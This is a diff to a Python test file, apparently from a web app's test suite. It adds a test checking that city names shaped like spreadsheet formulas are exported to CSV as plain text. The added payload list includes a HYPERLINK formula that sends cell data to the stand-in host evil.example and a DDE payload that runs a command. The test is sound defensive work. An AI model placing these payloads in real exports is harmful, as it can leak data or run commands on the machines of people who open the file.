@@ -120,3 +120,16 @@ def test_queries_stay_flat_from_1_to_50_records(client, sign_in):
     small = count()
     build(1, 49)
     assert count() <= small
+
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', "+cmd|' /C calc'!A0",
+              "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_the_csv_runs_no_formula(client, sign_in):
+    """A record named like a formula is written as text (a leading ')."""
+    sign_in("Translators")
+    for n, name in enumerate(INJECTIONS):
+        make_city(slug=f"evil-{n}", name_zh_hans=name, name_en=name)
+    records = [row["record"] for row in csv_rows(client, "&type=cities.city")]
+    assert sorted(records) == sorted(f"'{name}" for name in INJECTIONS)
